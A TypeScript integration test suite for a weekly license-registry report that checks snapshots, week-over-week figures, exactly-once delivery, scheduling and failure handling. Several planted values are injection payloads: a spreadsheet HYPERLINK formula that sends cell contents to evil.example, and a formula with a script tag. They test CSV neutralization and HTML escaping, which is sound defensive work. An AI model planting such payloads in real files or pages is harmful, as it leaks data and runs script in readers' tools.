/**
 * runLicenseReport end to end over the real local peers: the emulator's registry (read directly through the client
 * for the expected figures), dynalite for the ledger, s3rver for the snapshots and the sent reports, the SMTP sink
 * for the email. Each scenario uses its own archive prefix and recipients, so its snapshots, ledger keys and
 * messages are its own.
 */
import { createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { smtpMailer } from '../../src/adapters/mail/nodemailer-mailer.ts';
import type { LicenseKeyRecord } from '../../src/client/index.ts';
import { Licenses } from '../../src/config/licenses-schema.ts';
import type { PulseConfig } from '../../src/config/schema.ts';
import { addDays } from '../../src/core/calendar.ts';
import { csvRecords } from '../../src/licenses/report/csv-records.ts';
import { readStoredFigures } from '../../src/licenses/report/registry-snapshot.ts';
import { runLicenseReport } from '../../src/licenses/report/run-license-report.ts';
import { neutralizedCellValue } from '../../src/licenses/shared/csv-cells.ts';
import { fixedClock } from '../../src/ports/clock.ts';
import type { Mailer } from '../../src/ports/mailer.ts';
import { DIGEST_TODAY, type LocalDigest, type ReceivedMail, startLocalDigest } from '../helpers/local-digest.ts';
import { startScriptedSmtp } from '../helpers/scripted-smtp.ts';

const [DESKTOP, SERVER] = ['12345678901', '9876543210'] as const;
const HOSTILE_TYPE = '=HYPERLINK("http://evil.example/?x="&A1,"<b>click</b>")';
const HOSTILE_KEY = '+SUM(1;2)<script>alert(1)</script>';
/** Monday 23 Nov 2026 (the emulator's today) 10:00 UTC: W47 has ended, the 08:00 UTC schedule has passed. */
const MONDAY = fixedClock(`${DIGEST_TODAY}T10:00:00Z`);
const NEXT_MONDAY = fixedClock('2026-11-30T10:00:00Z');

let env: LocalDigest;
beforeAll(async () => {
  env = await startLocalDigest({
    products: [
      { id: DESKTOP, name: 'Desktop' },
      { id: SERVER, name: 'Server <b>&amp;</b>' },
    ],
    digests: [],
  });
}, 30_000);
afterAll(async () => {
  expect(env.logLines.join('\n')).not.toContain(env.peers.emulator.credentials.password);
  await env.close();
});

/** The config with a licenses section reporting to `recipients`, under its own archive prefix. */
function configFor(prefix: string, recipients: string[], report: Record<string, unknown> = {}): PulseConfig {
  return {
    ...env.config,
    archive: { ...env.config.archive!, prefix },
    licenses: Licenses.parse({
      productIds: [DESKTOP, SERVER],
      owner: { address: 'owner@example.com' },
      report: { recipients: recipients.map((address) => ({ address })), ...report },
    }),
  };
}

const mailsTo = async (address: string) => (await env.mails()).filter((m) => m.to === address);
const textOf = (m: ReceivedMail) => m.parsed.text ?? '';
/** The owner's notices of an unknown delivery to `address`. */
const noticesAbout = async (address: string) =>
  (await env.mails()).filter(
    (m) => m.parsed.headers.get('x-pulse-notice') === 'delivery-unknown' && m.parsed.subject?.endsWith(`to ${address}`),
  );
const htmlOf = (m: ReceivedMail) => (typeof m.parsed.html === 'string' ? m.parsed.html : '');

/** Every record of a product's registry, read directly (one page: the test registry is small). */
async function registry(productId: string): Promise<LicenseKeyRecord[]> {
  const client = env.ports().client;
  const res = await client.searchLicenseKeys(productId, { paging: { startAt: 0, limit: 1000 } });
  await client.logout();
  expect(res.result).toHaveLength(res.matchingKeysCount!);
  return res.result;
}

/** The figures counted by hand from the records, with the definitions of the README. */
function expectedFigures(records: LicenseKeyRecord[], today: string) {
  const expired = (r: LicenseKeyRecord) =>
    r.licenseStatus?.expired === true || (!!r.expiryDate && r.expiryDate < today);
  const within = (r: LicenseKeyRecord, days: number) =>
    !expired(r) && !!r.expiryDate && r.expiryDate <= addDays(today, days);
  const expiredInUse = records.filter(
    (r) => expired(r) && r.lastSeenDate && r.expiryDate && r.lastSeenDate > r.expiryDate,
  );
  const blockedInUse = records.filter(
    (r) => r.licenseStatus?.blocked && r.lastSeenDate && r.lastSeenDate >= addDays(today, -7),
  );
  return {
    keys: records.length,
    expiring: {
      within30: records.filter((r) => within(r, 30)).length,
      within60: records.filter((r) => within(r, 60)).length,
      within90: records.filter((r) => within(r, 90)).length,
    },
    overQuota: records.filter((r) => (r.overQuotaCount ?? 0) > 0).length,
    revenueLeaks: {
      expiredInUse: expiredInUse.length,
      blockedInUse: blockedInUse.length,
      total: new Set([...expiredInUse, ...blockedInUse]).size,
    },
    byStatus: {
      activated: records.filter((r) => r.licenseStatus?.activated).length,
      allowed: records.filter((r) => r.licenseStatus?.allowed).length,
      blocked: records.filter((r) => r.licenseStatus?.blocked).length,
      expired: records.filter((r) => r.licenseStatus?.expired).length,
    },
    activeTrials: records.filter((r) => r.licenseType === 'trial' && !expired(r)).length,
  };
}

async function snapshotCsv(key: string) {
  const object = await env.peers.archive.head(key);
  const gz = await env.peers.archive.get(key);
  expect(object && gz).toBeTruthy();
  const rows: string[][] = [];
  async function* bytes() {
    yield gunzipSync(gz!);
  }
  for await (const r of csvRecords(bytes())) rows.push(r);
  return { metadata: object!.metadata, gz: gz!, csv: gunzipSync(gz!).toString('utf8'), rows };
}

describe('the first report', () => {
  let result: Awaited<ReturnType<typeof runLicenseReport>>;
  let mail: ReceivedMail;
  beforeAll(async () => {
    result = await runLicenseReport(configFor('first', ['ops1@example.com']), env.ports(MONDAY));
    mail = (await mailsTo('ops1@example.com'))[0]!;
  });

  it('sends one email for the week that just ended and writes one snapshot per product', () => {
    expect(result.errors).toEqual([]);
    expect(result).toMatchObject({ ok: true, counts: { sent: 1, skippedAlreadySent: 0, snapshotsWritten: 2 } });
    expect(result.outputs).toEqual(
      expect.arrayContaining([
        `first/license-registry/${DESKTOP}/2026-11-22.csv.gz`,
        `first/license-registry/${SERVER}/2026-11-22.csv.gz`,
        'first/license-reports/2026-W47/index.html',
        'first/license-reports/2026-W47/figures.json',
        'first/license-reports/2026-W47/email.txt',
      ]),
    );
    expect(mail).toBeDefined();
    expect(mail.parsed.subject).toMatch(/^Weekly license registry report, 2026-W47: [\d,]+ keys/);
    expect(mail.parsed.headers.get('x-pulse-license-report')).toBe('2026-W47');
  });

  it('counts every figure as a direct read of the registry does', async () => {
    for (const productId of [DESKTOP, SERVER]) {
      const expected = expectedFigures(await registry(productId), DIGEST_TODAY);
      const stored = await readStoredFigures(
        env.peers.archive,
        `first/license-registry/${productId}/2026-11-22.figures.json`,
      );
      const f = stored!.figures;
      expect(f).toMatchObject({
        keys: expected.keys,
        expiring: expected.expiring,
        overQuota: expected.overQuota,
        revenueLeaks: expected.revenueLeaks,
        byStatus: expected.byStatus,
        trials: { active: expected.activeTrials, converted: null, lost: null },
      });
      expect(f.byType.reduce((n, t) => n + t.keys, 0)).toBe(expected.keys);
      expect(stored!.comparedWith).toBeNull();
    }
    expect(result.counts.keys).toBe((await registry(DESKTOP)).length + (await registry(SERVER)).length);
  });

  it('finds the keys the emulator plants (hand count)', async () => {
    // emulator/data/license-registry.ts: keys expiring in exactly 1, 7, 14, 30 and 60 days, an expired key used
    // after its expiry, an over-quota key (quota 1, several clients) and a blocked key seen in the last days.
    const records = await registry(DESKTOP);
    const expiringIn = (d: number) => records.filter((r) => r.expiryDate === addDays(DIGEST_TODAY, d)).length;
    for (const d of [1, 7, 14, 30, 60]) expect(expiringIn(d), `${d} days`).toBeGreaterThanOrEqual(1);
    const f = (await readStoredFigures(env.peers.archive, `first/license-registry/${DESKTOP}/2026-11-22.figures.json`))!
      .figures;
    expect(f.expiring.within30).toBeGreaterThanOrEqual(4); // 1, 7, 14 and 30 days
    expect(f.expiring.within60).toBeGreaterThanOrEqual(f.expiring.within30 + 1); // + 60 days
    expect(f.overQuota).toBeGreaterThanOrEqual(1);
    expect(f.revenueLeaks.expiredInUse).toBeGreaterThanOrEqual(1);
    expect(f.revenueLeaks.blockedInUse).toBeGreaterThanOrEqual(1);
  });

  it('writes a snapshot with every key once, its SHA-256 and key count in the metadata', async () => {
    const records = await registry(DESKTOP);
    const snap = await snapshotCsv(`first/license-registry/${DESKTOP}/2026-11-22.csv.gz`);
    expect(snap.metadata.sha256).toBe(createHash('sha256').update(snap.gz).digest('hex'));
    expect(snap.metadata['key-count']).toBe(String(records.length));
    expect(snap.metadata['snapshot-date']).toBe('2026-11-22');
    expect(snap.rows[0]![0]).toBe('licenseKey');
    // Cells are stored neutralized against formula injection (a planted key starts with `=`): undone to compare.
    const keys = snap.rows.slice(1).map((r) => neutralizedCellValue(r[0]!));
    expect(keys).toHaveLength(records.length);
    expect(new Set(keys)).toEqual(new Set(records.map((r) => r.licenseKey)));
    expect(snap.csv.endsWith('\r\n')).toBe(true);
  });

  it('archives the report like a sent digest and links to it', async () => {
    const page = await env.peers.archive.get('first/license-reports/2026-W47/index.html');
    expect(Buffer.from(page!).toString('utf8')).toContain('Keys by license type');
    const text = await env.peers.archive.get('first/license-reports/2026-W47/email.txt');
    expect(Buffer.from(text!).toString('utf8')).toBe(textOf(mail));
    const link = await env.peers.archive.linkTo('first/license-reports/2026-W47/index.html');
    if (/^https?:/.test(link)) expect(htmlOf(mail)).toContain(link);
  });

  it('has a plain-text part with the same figures, and stays under Gmail’s clipping size', async () => {
    const expected = expectedFigures(await registry(DESKTOP), DIGEST_TODAY);
    expect(textOf(mail)).toContain(`Over quota: ${expected.overQuota.toLocaleString('en-US')}`);
    expect(htmlOf(mail)).toContain('Server &lt;b&gt;&amp;amp;&lt;/b&gt;');
    expect(Buffer.byteLength(htmlOf(mail))).toBeLessThan(100_000);
  });

  it('sends nothing the second time; the week’s stored figures are reused, nothing is read or written again', async () => {
    const again = await runLicenseReport(configFor('first', ['ops1@example.com']), env.ports(MONDAY));
    expect(again).toMatchObject({ ok: true, counts: { sent: 0, skippedAlreadySent: 1, snapshotsWritten: 0 } });
    expect(await mailsTo('ops1@example.com')).toHaveLength(1);
  });
});

describe('week over week', () => {
  const cfg = () => configFor('wow', ['wow@example.com']);
  let trialConverted: string;
  let trialExpiring: string;
  let renewed: string;
  let second: Awaited<ReturnType<typeof runLicenseReport>>;
  let before: LicenseKeyRecord[];
  beforeAll(async () => {
    await runLicenseReport(cfg(), env.ports(MONDAY));
    before = await registry(DESKTOP);
    // The latest-expiring active trials: the last one would still run next Monday, the one before would not.
    const activeTrials = before
      .filter((r) => r.licenseType === 'trial' && !r.licenseStatus?.expired && r.expiryDate! >= DIGEST_TODAY)
      .sort((a, b) => (a.expiryDate! < b.expiryDate! ? 1 : -1));
    expect(activeTrials[0]!.expiryDate! > '2026-11-30').toBe(true);
    trialExpiring = activeTrials[0]!.licenseKey!;
    trialConverted = activeTrials[1]!.licenseKey!;
    renewed = before.find((r) => r.licenseType === 'purchased' && r.expiryDate === addDays(DIGEST_TODAY, 14))!
      .licenseKey!;
    const client = env.ports().client;
    const res = await client.updateLicenseKeys(DESKTOP, {
      keyUpdates: [
        { licenseKey: trialConverted, licenseType: 'purchased', expiryDate: '2027-11-30' },
        { licenseKey: trialExpiring, expiryDate: '2026-11-26' },
        { licenseKey: renewed, expiryDate: '2027-12-01' },
        { licenseKey: HOSTILE_KEY, licenseType: HOSTILE_TYPE },
        { licenseKey: '@evil', licenseType: '-2+3' },
      ],
    });
    await client.logout();
    expect(res.view?.failed).toEqual([]);
    second = await runLicenseReport(cfg(), env.ports(NEXT_MONDAY));
  }, 30_000);

  it('compares with the previous snapshot: the converted trial, the trials lost, the renewal, the new keys', async () => {
    expect(second.errors).toEqual([]);
    expect(second.counts).toMatchObject({ sent: 1, snapshotsWritten: 2 });
    const stored = (await readStoredFigures(
      env.peers.archive,
      `wow/license-registry/${DESKTOP}/2026-11-29.figures.json`,
    ))!;
    expect(stored.comparedWith).toBe(`wow/license-registry/${DESKTOP}/2026-11-22.csv.gz`);
    // Lost: trials active on 22 Nov that are expired trials on 30 Nov (the one set to expire, and the emulator's own).
    const lostByTheEmulator = before.filter(
      (r) =>
        r.licenseType === 'trial' &&
        r.licenseKey !== trialExpiring &&
        r.licenseKey !== trialConverted &&
        !r.licenseStatus?.expired &&
        r.expiryDate! >= '2026-11-22' &&
        r.expiryDate! < '2026-11-30',
    ).length;
    expect(stored.figures.trials).toMatchObject({ converted: 1, lost: lostByTheEmulator + 1 });
    const expected = expectedFigures(await registry(DESKTOP), '2026-11-30');
    expect(stored.figures).toMatchObject({ keys: before.length + 2, expiring: expected.expiring });
  });

  it('shows each figure’s change against last week in the email', async () => {
    const [, mail] = await mailsTo('wow@example.com');
    const text = textOf(mail!);
    expect(text).toContain('Keys in the registry: ');
    expect(text).toMatch(/Keys in the registry: [\d,]+ \(▲ \+2 vs last week\)/);
    expect(text).toMatch(/Trials converted this week: 1\n/);
    // The converted trial moved one key from trial to purchased, besides the two new keys' own types.
    expect(text).toMatch(/purchased: [\d,]+ \(▲ \+1 vs last week\)/);
    expect(htmlOf(mail!)).toContain('▲ +2');
  });

  it('neutralizes formula cells in the snapshot and escapes hostile types in the email', async () => {
    const snap = await snapshotCsv(`wow/license-registry/${DESKTOP}/2026-11-29.csv.gz`);
    // Only a number (a negative overQuotaCount) may start with "-": a spreadsheet reads it as that number.
    for (const row of snap.rows)
      for (const cell of row) if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const hostile = snap.rows.find((r) => r[0]?.includes('SUM(1;2)'))!;
    expect(hostile.slice(0, 2)).toEqual([`'${HOSTILE_KEY}`, `'${HOSTILE_TYPE}`]);
    // RFC 4180: the type holds quotes and a comma, so the cell is quoted with its quotes doubled.
    expect(snap.csv).toContain(`"'${HOSTILE_TYPE.replaceAll('"', '""')}"`);
    expect(snap.rows.find((r) => r[0] === "'@evil")?.[1]).toBe("'-2+3");
    const [, mail] = await mailsTo('wow@example.com');
    expect(htmlOf(mail!)).not.toContain('<b>click</b>');
    expect(htmlOf(mail!)).toContain('&lt;b&gt;click&lt;/b&gt;');
  });
});

describe('exactly once', () => {
  it('two concurrent runs send once per recipient', async () => {
    const cfg = configFor('race', ['race1@example.com', 'race2@example.com']);
    const [a, b] = await Promise.all([
      runLicenseReport(cfg, env.ports(MONDAY)),
      runLicenseReport(cfg, env.ports(MONDAY)),
    ]);
    expect(a.counts.sent + b.counts.sent).toBe(2);
    expect(await mailsTo('race1@example.com')).toHaveLength(1);
    expect(await mailsTo('race2@example.com')).toHaveLength(1);
    const again = await runLicenseReport(cfg, env.ports(MONDAY));
    expect(again.counts).toMatchObject({ sent: 0, skippedAlreadySent: 2 });
  });
});

describe('schedule, --week and --dry-run', () => {
  it('a scheduled run sends nothing before the schedule’s time, then sends', async () => {
    const cfg = configFor('sched', ['sched@example.com'], {
      schedule: { day: 'monday', time: '09:00', timeZone: 'Europe/Berlin' },
    });
    const early = await runLicenseReport(cfg, env.ports(fixedClock(`${DIGEST_TODAY}T07:59:00Z`)), { scheduled: true });
    expect(early.counts).toMatchObject({ sent: 0, keys: 0, snapshotsWritten: 0 });
    expect(await env.peers.archive.head(`sched/license-registry/${DESKTOP}/2026-11-22.csv.gz`)).toBeUndefined();
    const due = await runLicenseReport(cfg, env.ports(fixedClock(`${DIGEST_TODAY}T08:01:00Z`)), { scheduled: true });
    expect(due.counts).toMatchObject({ sent: 1, snapshotsWritten: 2 });
  });

  it('--dry-run computes the report and writes, sends and claims nothing', async () => {
    const cfg = configFor('dry', ['dry@example.com']);
    const dry = await runLicenseReport(cfg, env.ports(MONDAY), { dryRun: true });
    expect(dry.ok).toBe(true);
    expect(dry.preview?.text).toContain('Keys by license type');
    expect(dry.preview?.figures[DESKTOP]?.keys).toBe((await registry(DESKTOP)).length);
    expect(dry.outputs).toEqual([]);
    const written: string[] = [];
    for await (const o of env.peers.archive.list('dry/')) written.push(o.key);
    expect(written).toEqual([]);
    expect(await mailsTo('dry@example.com')).toEqual([]);
    expect(await env.peers.ledger.get('license-report#2026-W47#dry@example.com')).toBeUndefined();
  });

  it('--week of an older week without stored figures fails instead of labelling today’s registry', async () => {
    const r = await runLicenseReport(configFor('old', ['old@example.com']), env.ports(MONDAY), { week: '2026-W40' });
    expect(r.ok).toBe(false);
    expect(r.errors.join()).toMatch(/no stored figures for 2026-W40/);
    expect(await mailsTo('old@example.com')).toEqual([]);
  });
});

describe('a failed registry read', () => {
  it('sends nothing; the next run completes the week and sends once', async () => {
    const cfg = configFor('fault', ['fault@example.com']);
    env.peers.emulator.faults.set({ rules: [{ path: `license-key-registry/${SERVER}`, serverErrorRate: 1 }] });
    let failed: Awaited<ReturnType<typeof runLicenseReport>>;
    try {
      failed = await runLicenseReport(cfg, env.ports(MONDAY));
    } finally {
      env.peers.emulator.faults.set({ rules: [] });
    }
    expect(failed).toMatchObject({ ok: false, counts: { sent: 0 } });
    expect(failed.errors.join()).toMatch(/ServerError|503|500/);
    expect(await mailsTo('fault@example.com')).toEqual([]);
    expect(await env.peers.archive.head(`fault/license-registry/${SERVER}/2026-11-22.csv.gz`)).toBeUndefined();
    expect(await env.peers.archive.head('fault/license-reports/2026-W47/index.html')).toBeUndefined();

    const next = await runLicenseReport(cfg, env.ports(fixedClock(`${DIGEST_TODAY}T11:00:00Z`)));
    expect(next.errors).toEqual([]);
    // The product read before the fault keeps its stored snapshot; only the other one is written now.
    expect(next.counts).toMatchObject({ sent: 1, snapshotsWritten: 1 });
    expect(await mailsTo('fault@example.com')).toHaveLength(1);
  });
});

describe('unknown deliveries', () => {
  it('are reported and not resent, until a person resends or confirms them', async () => {
    const cfg = configFor('unknown', ['lost@example.com', 'arrived@example.com']);
    // What a run that died mid-send leaves in the ledger.
    for (const address of ['lost@example.com', 'arrived@example.com']) {
      const key = `license-report#2026-W47#${address}`;
      expect((await env.peers.ledger.claim(key)).outcome).toBe('claimed');
      await env.peers.ledger.markUnknown(key, 'the connection was lost after DATA');
    }
    const reported = await runLicenseReport(cfg, env.ports(MONDAY));
    expect(reported).toMatchObject({ ok: false, counts: { sent: 0, unknown: 2 } });
    expect(reported.errors.join('\n')).toContain('pulse licenses report --week 2026-W47 --resend-unknown');
    expect(await mailsTo('lost@example.com')).toEqual([]);
    // One notice to the owner per unknown delivery; a rerun sends neither a report nor a second notice.
    const notices = await noticesAbout('lost@example.com');
    expect(notices.map((m) => m.to)).toEqual(['owner@example.com']);
    expect(notices[0]!.parsed.subject).toBe(
      'Delivery unknown: Weekly license registry report, 2026-W47, to lost@example.com',
    );
    const text = textOf(notices[0]!);
    expect(text).toContain(
      'whether the license registry report “Weekly license registry report” for 2026-W47 reached lost@example.com',
    );
    expect(text).toContain('The connection was lost after DATA.');
    expect(text).toContain('pulse licenses report --week 2026-W47 --resend-unknown');
    expect(text).toContain('pulse licenses report --week 2026-W47 --confirm-unknown');
    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);
    expect((await runLicenseReport(cfg, env.ports(MONDAY))).counts).toMatchObject({ sent: 0, unknown: 2 });
    expect(await noticesAbout('lost@example.com')).toHaveLength(1);
    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);

    const resent = await runLicenseReport(configFor('unknown', ['lost@example.com']), env.ports(MONDAY), {
      unknownDeliveries: 'resend',
    });
    expect(resent).toMatchObject({ ok: true, counts: { sent: 1, unknown: 0 } });
    const confirmed = await runLicenseReport(configFor('unknown', ['arrived@example.com']), env.ports(MONDAY), {
      unknownDeliveries: 'confirm',
    });
    expect(confirmed).toMatchObject({ ok: true, counts: { sent: 0, confirmed: 1 } });
    expect(await mailsTo('lost@example.com')).toHaveLength(1);
    expect(await mailsTo('arrived@example.com')).toEqual([]);
    const clean = await runLicenseReport(cfg, env.ports(MONDAY));
    expect(clean).toMatchObject({ ok: true, errors: [], counts: { skippedAlreadySent: 2, unknown: 0 } });
    expect(await noticesAbout('lost@example.com')).toHaveLength(1);
    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);
  });

  it('a connection dropped after the message: unknown, one notice to the owner, nothing again by itself', async () => {
    const smtp = await startScriptedSmtp({ afterData: 'drop' });
    const faulty = smtpMailer({ host: smtp.host, port: smtp.port, secure: false });
    // The report goes to the scripted server, the owner's notice to the sink.
    const mailer: Mailer = {
      send: (m) => (m.to === 'owner@example.com' ? env.peers.mailer.send(m) : faulty.send(m)),
    };
    const cfg = configFor('dropped', ['dropped@example.com']);
    try {
      const first = await runLicenseReport(cfg, { ...env.ports(MONDAY), mailer });
      expect(smtp.received).toBe(1);
      expect(first).toMatchObject({ ok: false, counts: { sent: 0, unknown: 1 } });
    } finally {
      await smtp.close();
    }
    const notices = await noticesAbout('dropped@example.com');
    expect(notices.map((m) => m.to)).toEqual(['owner@example.com']);
    expect(textOf(notices[0]!)).toContain('The mail server may have taken it: Error: Connection closed unexpectedly');
    const next = await runLicenseReport(cfg, env.ports(MONDAY));
    expect(next).toMatchObject({ ok: false, counts: { sent: 0, unknown: 1 } });
    expect(await mailsTo('dropped@example.com')).toEqual([]);
    expect(await noticesAbout('dropped@example.com')).toHaveLength(1);
    const confirmed = await runLicenseReport(cfg, env.ports(MONDAY), { unknownDeliveries: 'confirm' });
    expect(confirmed).toMatchObject({ ok: true, counts: { sent: 0, confirmed: 1 } });
    expect(await runLicenseReport(cfg, env.ports(MONDAY))).toMatchObject({
      ok: true,
      counts: { skippedAlreadySent: 1 },
    });
    expect(await mailsTo('dropped@example.com')).toEqual([]);
    expect(await noticesAbout('dropped@example.com')).toHaveLength(1);
  });
});
